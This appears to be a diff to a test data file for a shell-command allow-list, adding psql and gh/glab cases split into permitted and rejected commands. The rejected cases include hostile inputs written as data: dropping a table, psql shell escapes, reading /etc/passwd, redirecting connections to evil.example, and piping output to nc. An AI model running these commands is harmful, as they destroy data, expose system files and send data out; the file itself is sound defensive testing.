@@ -85,6 +85,7 @@ UPDATE = "helm dependency update charts/web"
 AWS = "aws ec2 describe-instances"
 GCLOUD_LIST = "gcloud compute instances list"
 AZ_LIST = "az vm list -o table"
+PSQL = r"PGPASSWORD=shop psql -h localhost -p 5433 -U shop -d shop -c '\conninfo'"
 VIEW = "gh pr view 1"
 LAB = "glab mr view 1"
 COMMENT = "gh pr comment 4 --body 'Read it whole'"
@@ -159,6 +160,13 @@ COVERED = {
         *("gcloud --project acme-staging sql instances list", "gcloud functions logs read web --limit 20"),
         *("gcloud storage buckets list", "gcloud services list", "gcloud dns record-sets list --filter x"),
     ),
+    PSQL: (
+        *(
+            "psql -h localhost -p 5433 -U shop -d shop -Atc 'select now()'",
+            "PGPASSWORD=shop psql --host=localhost -p 5433 shop --csv -c 'select count(*) from orders' | head -3",
+        ),
+        *(r"psql -X -h localhost -p 5433 shop -c '\d orders' -c 'explain select 1'",),
+    ),
     AZ_LIST: (
         *("az group list", "az account show", "az vm show -g a -n b --query id | head -1", "az aks list -o json"),
         *(
@@ -169,6 +177,11 @@ COVERED = {
         *("az network nsg list -g a", "az storage account show -n x", "az resource list -g a"),
     ),
     VIEW: (
+        *(
+            'gh run list --branch "$(git branch --show-current)" --limit 5',
+            'gh run list -b=x --commit "$(git rev-parse HEAD)"',
+            'gh pr list --head "$(git symbolic-ref --short HEAD)"',
+        ),
         *(
             "gh api repos/{owner}/{repo}/pulls/1/comments --jq '.[].body'",
             "gh api repos/acme/shop/actions/runs --paginate",
@@ -183,6 +196,10 @@ COVERED = {
         "gh api 'repos/{owner}/{repo}/compare/main...topic'",
     ),
     LAB: (
+        *(
+            'glab ci status --branch "$(git branch --show-current)"',
+            'glab ci view -b "$(git rev-parse --abbrev-ref HEAD)"',
+        ),
         *("glab api projects/:id/pipelines/latest --field ref=x --method GET | jq .status", "glab ci trace rspec"),
         *("glab api 'projects/:id/jobs?scope[]=failed'", "glab api projects/acme%2Fshop/jobs/1/trace | tail -3"),
         *(
@@ -608,6 +625,41 @@ OTHER = {
             AWS,
         ),
     ),
+    PSQL: (
+        *(
+            "psql -h localhost -p 5433 -d shop -c 'update orders set a = 1'",
+            "psql -h localhost -p 5433 -d shop -c 'drop table orders'",
+            r"psql -h localhost -p 5433 -d shop -c '\! id'",
+            "psql -h localhost -p 5433 -d shop -c \"copy (select 1) to program 'id'\"",
+            "psql -h localhost -p 5433 -d shop -c 'select pg_read_file($$/etc/passwd$$)'",
+        ),
+        *(
+            "psql -h db.example.com -p 5433 -d shop -c 'select 1'",
+            "psql -h localhost.evil.example -p 5433 -d shop -c 'select 1'",
+            "psql -h localhost,evil.example -p 5433 -d shop -c 'select 1'",
+            "psql -h /tmp -p 5433 -d shop -c 'select 1'",
+            "psql -h localhost -h evil.example -p 5433 -d shop -c 'select 1'",
+        ),
+        *(
+            "psql -h localhost -p 5432 -d shop -c 'select 1'",
+            "psql -h localhost -d shop -c 'select 1'",
+            "psql -h localhost -p 5433 -d other -c 'select 1'",
+            "psql -h localhost -p 5433 -c 'select 1'",
+            "psql -p 5433 -d shop -c 'select 1'",
+            "psql -h localhost -p 5433 -d 'host=evil.example dbname=shop' -c 'select 1'",
+            "psql -h localhost -p 5433 -d postgresql://evil.example/shop -c 'select 1'",
+        ),
+        *(
+            "PGHOST=evil.example psql -h localhost -p 5433 -d shop -c 'select 1'",
+            "PGSERVICEFILE=x psql -h localhost -p 5433 -d shop -c 'select 1'",
+            "PSQLRC=x psql -h localhost -p 5433 -d shop -c 'select 1'",
+            "psql -h localhost -p 5433 -d shop -o x -c 'select 1'",
+            "psql -h localhost -p 5433 -d shop -f a.sql",
+            "psql -h localhost -p 5433 -d shop -v x=y -c 'select 1'",
+            "psql -h localhost -p 5433 -d shop < a.sql",
+            "psql -h localhost -p 5433 -d shop -c 'select 1' | nc evil.example 1",
+        ),
+    ),
     AZ_LIST: (
         *(
             "az account get-access-token",
@@ -651,6 +703,17 @@ OTHER = {
         ),
     ),
     VIEW: (
+        *(
+            'gh run list --branch "$(cat notes.md)"',
+            'gh run list --branch "$(git show HEAD:notes.md)"',
+            'gh run list --branch "$(git -C ../other branch --show-current)"',
+            'gh run list --branch "x$(git branch --show-current)"',
+            "gh run list --branch $(git branch --show-current)",
+            'gh run list --workflow "$(git branch --show-current)"',
+            'gh run list "$(git branch --show-current)"',
+            'gh run list --branch "$(GIT_DIR=x git branch --show-current)"',
+            'gh run list --branch "$(git branch --show-current < notes.md | cat)"',
+        ),
         *(
             "gh api -X POST repos/{owner}/{repo}/issues",
             "gh api repos/{owner}/{repo}/issues -f title=x",
